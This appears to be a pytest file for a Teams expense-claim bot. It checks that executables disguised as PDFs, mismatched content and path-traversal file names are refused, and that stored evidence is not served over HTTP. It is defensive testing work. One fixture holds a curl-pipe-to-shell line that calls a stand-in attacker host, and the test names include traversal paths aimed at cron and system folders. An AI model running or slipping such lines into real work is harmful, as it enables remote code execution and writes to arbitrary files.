"""Hostile files through the chat: a program dressed as a PDF, names that are paths.

Each refusal is a clear sentence in the partner's language; nothing is kept, nothing is
written outside data/evidence, and the evidence folder is not served over HTTP.
"""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from botbuilder.schema import Activity, ActivityTypes

from app import build_house, create_app
from config import load_settings
from tests.dialogs.claim_support import (
    EN,
    FR,
    answer,
    approved_plan,
    get_claim,
    is_french,
    seed_funds,
    seminar_answers,
    start_claim,
    stored_files,
    teams_file,
    texts,
)
from tests.support import Chat

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 2000
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 2000
SCRIPT = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 500
PDF = b"%PDF-1.4\n" + b"genuine invoice\n" * 60


class Files:
    """A loopback server handing out whatever bytes a test put under a name."""

    def __init__(self) -> None:
        self.content: dict[str, bytes] = {}
        self.hits: list[str] = []
        app = web.Application()
        app.router.add_get("/{key}", self._serve)
        self._server = TestServer(app, host="127.0.0.1")

    async def _serve(self, request: web.Request) -> web.Response:
        self.hits.append(request.match_info["key"])
        return web.Response(body=self.content[request.match_info["key"]])

    def url(self, key: str) -> str:
        return str(self._server.make_url(f"/{key}"))

    async def __aenter__(self) -> Files:
        await self._server.start_server()
        return self

    async def __aexit__(self, *exc_info: object) -> None:
        await self._server.close()


@pytest.fixture
async def files():
    async with Files() as server:
        yield server


@pytest.fixture
async def at_menu(chat: Chat):
    await approved_plan(chat)
    await seed_funds(chat)
    return chat


async def to_menu(chat: Chat, locale: str) -> str:
    chat.locale = locale
    claim_id, _ = await start_claim(chat, locale)
    await answer(chat, seminar_answers(locale), locale)
    return claim_id


async def send_file(chat: Chat, files: Files, name: str, content: bytes):
    key = f"k{len(files.content)}"
    files.content[key] = content
    activity = Activity(type=ActivityTypes.message, attachments=[teams_file(files.url(key), name)])
    return await chat._send(activity)


@pytest.mark.parametrize("locale", [EN, FR])
@pytest.mark.parametrize(("content", "kind"), [(EXE, "exe"), (ELF, "elf"), (SCRIPT, "script")])
async def test_a_pdf_that_is_a_program_is_refused_and_not_kept(
    at_menu: Chat, files: Files, locale: str, content: bytes, kind: str
) -> None:
    chat = at_menu
    claim_id = await to_menu(chat, locale)
    replies = await send_file(chat, files, "invoice.pdf", content)
    if is_french(locale):
        assert "« invoice.pdf » est un programme, pas un document" in texts(replies)
    else:
        assert '"invoice.pdf" is a program, not a document' in texts(replies)
    assert (await get_claim(chat, claim_id)).evidence == []
    assert stored_files(chat) == []

    # The real document then goes in.
    replies = await send_file(chat, files, "invoice.pdf", PDF)
    assert ("enregistré" if is_french(locale) else "saved") in texts(replies)
    assert len(stored_files(chat)) == 1


@pytest.mark.parametrize("locale", [EN, FR])
async def test_a_file_whose_content_is_not_its_type_is_refused(
    at_menu: Chat, files: Files, locale: str
) -> None:
    chat = at_menu
    claim_id = await to_menu(chat, locale)
    replies = await send_file(chat, files, "invoice.pdf", PNG)
    if is_french(locale):
        assert "Le contenu de « invoice.pdf » n'est pas un fichier PDF" in texts(replies)
    else:
        assert 'The content of "invoice.pdf" is not a PDF file' in texts(replies)
    assert (await get_claim(chat, claim_id)).evidence == []
    assert stored_files(chat) == []


@pytest.mark.parametrize(
    "name",
    [
        "../../../../tmp/pwned.pdf",
        "..\\..\\windows\\system32\\pwned.pdf",
        "/etc/cron.d/pwned.pdf",
        "C:\\Users\\Public\\pwned.pdf",
        "evidence/../../pwned.pdf",
    ],
)
async def test_a_file_name_that_is_a_path_is_refused_and_nothing_is_written(
    at_menu: Chat, files: Files, tmp_path, name: str
) -> None:
    chat = at_menu
    claim_id = await to_menu(chat, EN)
    replies = await send_file(chat, files, name, PDF)
    assert "I can't accept a file named" in texts(replies)
    assert files.hits == []  # refused by its name: not even downloaded
    assert (await get_claim(chat, claim_id)).evidence == []
    assert stored_files(chat) == []
    evidence_data = chat.services.evidence.root.parent
    for folder in (tmp_path, evidence_data):
        assert not list(folder.glob("**/pwned*")), folder
    # Where the name would have led, from the evidence folder or as given.
    for base in (chat.services.evidence.root, evidence_data, Path.cwd()):
        assert not (base / name.replace("\\", "/")).resolve().exists()
    assert not Path("/tmp/pwned.pdf").exists()


async def test_a_name_with_encoded_slashes_is_only_a_name(at_menu: Chat, files: Files) -> None:
    # "%2F" is no separator: the name is kept as text, the file by its content hash.
    chat = at_menu
    claim_id = await to_menu(chat, EN)
    replies = await send_file(chat, files, "..%2F..%2Finvoice.pdf", PDF)
    assert "saved" in texts(replies)
    [item] = (await get_claim(chat, claim_id)).evidence
    assert item.stored_as == f"evidence/{item.sha256[:2]}/{item.sha256}"
    [path] = stored_files(chat)
    assert path == chat.services.evidence.root / item.sha256[:2] / item.sha256


async def test_the_evidence_folder_is_not_served(data_dir) -> None:
    house = await build_house(load_settings({"DATA_DIR": str(data_dir)}))
    evidence = data_dir / "evidence" / "ab"
    evidence.mkdir(parents=True)
    (evidence / ("ab" + "0" * 62)).write_bytes(PDF)
    app = create_app(house, background=False)
    # No static folder at all: every route is a handler of ours.
    assert all(type(r).__name__ != "StaticResource" for r in app.router.resources())
    client = TestClient(TestServer(app, host="127.0.0.1"))
    await client.start_server()
    try:
        for path in (
            f"/evidence/ab/ab{'0' * 62}",
            f"/data/evidence/ab/ab{'0' * 62}",
            "/api/../evidence/ab",
            "/tenants/",
        ):
            response = await client.get(path)
            assert response.status in (404, 405), path
            assert b"genuine invoice" not in await response.read()
    finally:
        await client.close()


async def test_parts_a_crash_left_are_removed_when_the_bot_starts(data_dir) -> None:
    evidence = data_dir / "evidence"
    (evidence / "ab").mkdir(parents=True)
    finished = evidence / "ab" / ("ab" + "0" * 62)
    finished.write_bytes(PDF)
    stray = evidence / ".part-k3j2h1"
    stray.write_bytes(PDF[:100])
    # Left by a process that died mid-download, longer ago than any download may last.
    long_ago = time.time() - 3600
    for path in (finished, stray):
        os.utime(path, (long_ago, long_ago))

    await build_house(load_settings({"DATA_DIR": str(data_dir)}))

    assert not stray.exists()
    assert finished.read_bytes() == PDF
